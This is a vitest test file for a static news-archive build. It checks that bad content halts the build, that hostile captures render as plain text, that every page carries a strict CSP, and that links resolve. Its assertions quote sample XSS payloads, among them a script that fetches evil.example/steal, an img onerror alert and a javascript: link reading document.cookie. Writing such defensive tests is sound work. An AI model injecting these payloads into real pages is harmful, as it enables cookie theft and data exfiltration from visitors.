/**
 * The build as gatekeeper: bad content stops it with one line per problem
 * and publishes nothing; hostile captures render as text; every page has a
 * strict CSP; links and anchors resolve.
 */
import { cp, mkdtemp, readFile, readdir, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { check } from "linkinator";
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { launch, offsite, openPage } from "../support/browser.ts";
import { ARTICLE_ID, expectedBlocks } from "../support/capture.ts";
import { importCaptures } from "../../src/node/import.ts";
import {
  FIXTURES,
  runIsolatedBuild,
  serveFixture,
  type FixtureName,
  type Site,
} from "../support/site.ts";

const HOSTILE = new URL("../fixtures/hostile", import.meta.url).pathname;
const EDITED = new URL("../fixtures/versions/301_seed_edited.txt", import.meta.url).pathname;
/** The hostile fixture site's content: content/ and the hostile capture (global setup). */
const hostileContent = (): string => inject("hostileContent");
const fixtureDir = (name: FixtureName): string => inject("fixtureDirs")[name];

let browser: Browser;
let scratch: string;

beforeAll(async () => {
  browser = await launch();
  scratch = await mkdtemp(join(tmpdir(), "archive-guards-"));
});

afterAll(async () => {
  await browser?.close();
  await rm(scratch, { recursive: true, force: true });
});

describe("a build with bad content", () => {
  // Two whole builds one after another, beside the other files' builds and the unit tests:
  // under a fresh clone's CI load they took more than the default minute once.
  it(
    "stops with one line per problem and leaves the previous site whole",
    { timeout: 180_000 },
    async () => {
      // The content check: three problems in two articles, found before anything is rendered.
      const content = join(scratch, "bad");
      await cp(hostileContent(), content, { recursive: true });
      const article = join(content, "articles", "hostile.md");
      const text = await readFile(article, "utf8");
      await writeFile(
        article,
        text
          .replace(/^headline:.*\n/m, "")
          .replace(/sha256: "[0-9a-f]+"/, `sha256: "${"a".repeat(64)}"`),
      );
      await writeFile(
        join(content, "articles", "empty.md"),
        text.replace(/\n---\n[\s\S]*$/, "\n---\n"),
      );

      // The guard on built pages: a body that no longer matches its capture, found after rendering.
      const altered = join(scratch, "altered");
      await cp(hostileContent(), altered, { recursive: true });
      const alteredArticle = join(altered, "articles", "hostile.md");
      await writeFile(
        alteredArticle,
        text.replace("Plain words before the attack", "Plain words before the atack"),
      );
      // And a later version of the seed, whose page is guarded against its own capture.
      process.env.ARCHIVE_CONTENT = altered;
      const [version] = await importCaptures([EDITED], {
        root: scratch,
        archived: "2026-11-29",
        language: "en",
        dryRun: false,
      }).finally(() => delete process.env.ARCHIVE_CONTENT);
      expect(version?.status).toBe("version");
      const versionFile = join(altered, version?.status === "version" ? version.article : "");
      await writeFile(
        versionFile,
        (await readFile(versionFile, "utf8")).replace(
          "has urged his forces",
          "has urged its forces",
        ),
      );

      // The previous site: the hostile fixture as built, copied (the fixture itself stays untouched).
      const out = join(scratch, "dist");
      await cp(fixtureDir("hostile"), out, { recursive: true });
      const before = (await readdir(out, { recursive: true })).sort();
      const index = await readFile(join(out, "articles/hostile/index.html"), "utf8");
      const unchanged = async (): Promise<void> => {
        expect((await readdir(out, { recursive: true })).sort()).toEqual(before);
        expect(await readFile(join(out, "articles/hostile/index.html"), "utf8")).toBe(index);
        expect((await readdir(scratch)).filter((name) => name.includes("building"))).toEqual([]);
      };

      const failed = await runIsolatedBuild(out, { content });
      expect(failed.ok).toBe(false);
      expect(failed.output).toContain("The content has 3 problems; nothing was built.");
      expect(failed.output).toContain("articles/hostile.md: headline: is missing");
      expect(failed.output).toMatch(
        /articles\/hostile\.md: capture\.sha256: is a{64} but .*hostile\.txt hashes to/,
      );
      expect(failed.output).toContain("articles/empty.md: body: is empty");
      expect(failed.output).not.toMatch(/\n\s+at /); // a message, not a stack trace
      await unchanged();

      const unfaithful = await runIsolatedBuild(out, { content: altered });
      expect(unfaithful.ok).toBe(false);
      expect(unfaithful.output).toContain(
        "What the reader would see has 2 problems; nothing was built.",
      );
      expect(unfaithful.output).toContain(
        `articles/${ARTICLE_ID}/versions/2.md: body block 1: differs from the capture at character 77: the capture has "his forces to rally against Turkey, whic", the page "its forces to rally against Turkey, whic" (page articles/${ARTICLE_ID}/versions/2/index.html, capture`,
      );
      expect(unfaithful.output).toMatch(
        /articles\/hostile\.md: body block 1: differs from the capture .*\(page articles\/hostile\/index\.html, capture .*hostile\.txt\)/,
      );
      expect(unfaithful.output).not.toMatch(/\n\s+at /);
      await unchanged();

      // That a good build then replaces the whole site, never merging into the old one, is
      // shown by the build-in-parts test (it builds over an older site's files).
    },
  );
});

describe("a hostile capture", () => {
  let site: Site;

  beforeAll(async () => {
    site = await serveFixture("hostile");
  });

  afterAll(async () => {
    await site?.close();
  });

  it("renders its markup as text: no script runs, no request leaves", async () => {
    const watched = await openPage(browser);
    const dialogs: string[] = [];
    watched.page.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await watched.page.goto(site.at("articles/hostile/"));
    const article = watched.page.locator("article");
    for (const selector of ["script", "img", "iframe", "style", "[onclick]", "[onerror]"]) {
      expect(await article.locator(selector).count(), selector).toBe(0);
    }
    // Not one link comes from the capture's text: no <a> in the header or in any block's text;
    // the only links are the archive's own beside each block, the ¶ permalink to the block and
    // (if any) others on this site.
    expect(await article.locator("header a, .article-body :is(p, h2) a").count()).toBe(0);
    const links = await article.locator("a").evaluateAll((as) =>
      as.map((a) => ({
        href: a.getAttribute("href") ?? "",
        besideText: a.parentElement?.matches(".article-body > .block") ?? false,
      })),
    );
    for (const link of links) {
      expect(link.besideText, link.href).toBe(true);
      expect(link.href, link.href).toMatch(/^(#|\/(?!\/))/);
    }
    // A subheading that gives no slug, and one named like the page's own search panel: each
    // has an id of its own, and no id is on the page twice.
    expect(
      await article.locator(".article-body h2").evaluateAll((hs) => hs.map((h) => h.id)),
    ).toEqual(["section", "search-panel-1"]);
    const ids = await watched.page.locator("[id]").evaluateAll((els) => els.map((el) => el.id));
    expect(ids.filter((id, i) => ids.indexOf(id) !== i)).toEqual([]);
    const permalinks = await article
      .locator(".article-body a.permalink")
      .evaluateAll((as) => as.map((a) => a.getAttribute("href")));
    const paragraphs = permalinks.filter(
      (href) => !["#section", "#search-panel-1"].includes(href ?? ""),
    );
    expect(paragraphs).toEqual(Array.from({ length: paragraphs.length }, (_, i) => `#p${i + 1}`));
    // Every block reads exactly as the capture prints it, markup and all.
    const shown = [
      await article.locator("h1").textContent(),
      await article.locator(".publisher").textContent(),
      await article.locator("header time").textContent(),
      ...(await article.locator(".article-body").locator("p, h2").allTextContents()),
    ];
    const capture = await readFile(join(HOSTILE, "captures", "hostile.txt"));
    expect(shown).toEqual(expectedBlocks(capture));
    expect(permalinks).toHaveLength(shown.length - 3);
    const text = await article.innerText();
    expect(text).toContain(
      '<script>document.title = "pwned"; fetch("https://evil.example/steal");</script>',
    );
    expect(text).toContain('<img src="https://evil.example/pixel.gif" onerror="alert(1)">');
    expect(text).toContain("[javascript link](javascript:alert(document.cookie))");
    expect(text).toContain("![tracking pixel](https://evil.example/track.png)");
    expect(text).toContain(
      "Even a [relative link](#p1) is shown as its text, like an address: https://evil.example/x or ops@evil.example.",
    );
    await watched.page.getByText("hover me").hover();
    await watched.page.getByText("hover me").click();
    expect(await watched.page.title()).not.toContain("pwned");
    expect(await watched.page.getByRole("heading", { level: 1 }).innerText()).toBe(
      'A hostile headline <script>alert("headline")</script>',
    );
    expect(dialogs).toEqual([]);
    expect(watched.errors).toEqual([]);
    expect(offsite(watched.requests, site.origin)).toEqual([]);
  });

  it("gives every page a strict CSP, as a meta tag and in _headers", async () => {
    const files = (await readdir(site.dir, { recursive: true })).filter((f) => f.endsWith(".html"));
    const headers = await readFile(join(site.dir, "_headers"), "utf8");
    expect(files.length).toBeGreaterThanOrEqual(3);
    for (const file of files) {
      const html = await readFile(join(site.dir, file), "utf8");
      const csp = /<meta http-equiv="content-security-policy" content="([^"]*)"/.exec(html)?.[1];
      expect(csp, file).toBeDefined();
      for (const directive of ["default-src 'self'", "object-src 'none'", "base-uri 'none'"]) {
        expect(csp, file).toContain(directive);
      }
      expect(csp, file).not.toMatch(/'unsafe-inline'|'unsafe-eval'|https?:|\*/);
      expect(csp, file).toMatch(/script-src 'self' 'wasm-unsafe-eval' 'sha256-/);
      expect(headers).toContain(`Content-Security-Policy: ${csp}`);
    }
  });
});

describe.each<FixtureName>(["archive", "imports", "versions"])(
  "links of the %s site",
  (fixture) => {
    let site: Site;

    beforeAll(async () => {
      site = await serveFixture(fixture);
    });

    afterAll(async () => {
      await site?.close();
    });

    it("has no broken link or anchor", async () => {
      const result = await check({
        path: site.url,
        recurse: true,
        checkFragments: true,
        concurrency: 8,
        // Absolute links on SITE_URL point at where the site will be hosted.
        linksToSkip: ["^https://archive\\.example"],
      });
      const broken = result.links.filter((link) => link.state === "BROKEN");
      expect(broken.map((link) => `${link.url} (from ${link.parent}): ${link.status}`)).toEqual([]);
      expect(result.links.filter((link) => link.state === "OK").length).toBeGreaterThanOrEqual(9);
    });
  },
);

describe("the fixture sites' builds", () => {
  // A warning in every build's log (Astro's, say, of an empty collection) reads to an
  // archivist as something wrong with their captures: a build of good content warns of nothing.
  it("log no warning", () => {
    const logs = inject("fixtureLogs");
    expect(Object.keys(logs).sort()).toEqual(Object.keys(FIXTURES).sort());
    for (const [name, log] of Object.entries(logs)) {
      expect(
        log.split("\n").filter((line) => /\[WARN\]|\bWarning:/.test(line)),
        name,
      ).toEqual([]);
    }
  });
});
